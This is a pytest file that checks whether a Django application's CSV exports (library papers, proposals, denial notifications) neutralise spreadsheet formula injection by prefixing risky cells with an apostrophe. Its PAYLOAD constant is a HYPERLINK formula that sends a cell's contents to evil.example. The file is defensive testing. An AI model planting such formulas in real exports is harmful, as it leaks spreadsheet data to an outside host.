"""Security #5: no CSV export hands a spreadsheet a formula (library, proposals, denials).

A cell written by one author that starts with = + - @ (or a tab or carriage return) must reach
the reader's spreadsheet as text, with a leading apostrophe; our importers take it off again."""

import csv
import datetime as dt
import io

import pytest

from catchall.core.csvsafe import FORMULA_START
from catchall.web.denials.formats import NotificationData, PartyData, render
from catchall.web.denials.models import DenialNotification
from catchall.web.denials.services import denials_export, denials_import_data
from catchall.web.regime.services.documents import document_create
from catchall.web.regime.services.proposals import proposal_create

from .regime.conftest import people  # noqa: F401  (the regime users fixture)

pytestmark = pytest.mark.django_db

PAYLOAD = 'HYPERLINK("https://evil.example/?"&B7,"click")'
DECL = {"declass_on": dt.date(2040, 1, 1), "declass_reason": "1.4(b)"}


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def assert_no_formula(text: str, planted: list[str]) -> None:
    """Every planted value is in the export, and only behind an apostrophe."""
    all_cells = cells(text)
    for value in planted:
        assert value not in all_cells, repr(value)
        assert any(c.startswith("'" + value) or ("'" + value) in c for c in all_cells), repr(value)
    for c in all_cells:
        assert not c.startswith(FORMULA_START), repr(c)


def test_library_paper_list_and_proposal_csv_exports_neutralise_formulas(client, people):  # noqa: F811
    starts = ["=", "+", "-", "@"]
    body = "\n\n".join(f"(U) {s}{PAYLOAD} machine tools" for s in starts)
    d = document_create(
        actor=people["us-delegate"],
        kind="best_practice",
        title=f"(U) ={PAYLOAD}",
        body=body,
        dated=dt.date(2020, 1, 6),
        **DECL,
    )
    p = proposal_create(
        actor=people["us-delegate"],
        type="policy",
        title=f"(U) @{PAYLOAD}",
        body=body,
        dated=dt.date(2020, 1, 6),
        **DECL,
    )
    client.force_login(people["kz-guest"])
    planted = [f"{s}{PAYLOAD} machine tools" for s in starts]
    r = client.get(f"/library/{d.pk}/export.csv")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    assert_no_formula(r.content.decode(), [*planted, f"={PAYLOAD}"])
    r = client.get("/library/export.csv")
    assert_no_formula(r.content.decode(), [f"={PAYLOAD}"])
    r = client.get("/library/export.csv?q=machine")
    assert_no_formula(r.content.decode(), [f"={PAYLOAD}"])
    client.force_login(people["us-delegate"])
    r = client.get(f"/regime/proposals/{p.pk}/export.csv")
    assert_no_formula(r.content.decode(), [*planted, f"@{PAYLOAD}"])


def test_denial_csv_exports_neutralise_every_formula_start():
    planted = [f"{s}{PAYLOAD}" for s in FORMULA_START]
    n = NotificationData(
        reference="IT-7",
        notifying_government="IT",
        regime="NSG",
        denial_cle="2B201.a",
        item_description=planted[0],
        end_use=planted[1],
        reason_for_refusal=planted[2],
        parties=[
            PartyData(name=planted[3], address=planted[4], country="SY"),
            PartyData(name=planted[5], address="Damascus", country="SY"),
        ],
    )
    for fmt in ("lite-csv", "csv"):
        assert_no_formula(render([n], fmt), planted)


def test_the_stored_denials_export_neutralises_and_round_trips(db):
    doc = {
        "notifications": [
            {
                "reference": "IT-8",
                "notifying_government": "IT",
                "regime": "NSG",
                "denial_cle": "2B201.a",
                "item_description": f"+{PAYLOAD}",
                "end_use": f"'={PAYLOAD}",  # an apostrophe already there survives the round trip
                "parties": [{"name": f"@{PAYLOAD}", "country": "SY"}],
            }
        ]
    }
    denials_import_data(doc, file_name="api")
    for fmt in ("lite-csv", "csv"):
        text = denials_export(fmt, "all")
        assert_no_formula(text, [f"+{PAYLOAD}", f"@{PAYLOAD}"])
        assert f"''={PAYLOAD}" in cells(text)
    DenialNotification.objects.all().delete()
    denials_import_data(text.encode("utf-8"), file_name="export.csv", format="csv")
    n = DenialNotification.objects.get()
    assert (n.item_description, n.end_use) == (f"+{PAYLOAD}", f"'={PAYLOAD}")
    assert n.parties.get().name == f"@{PAYLOAD}"
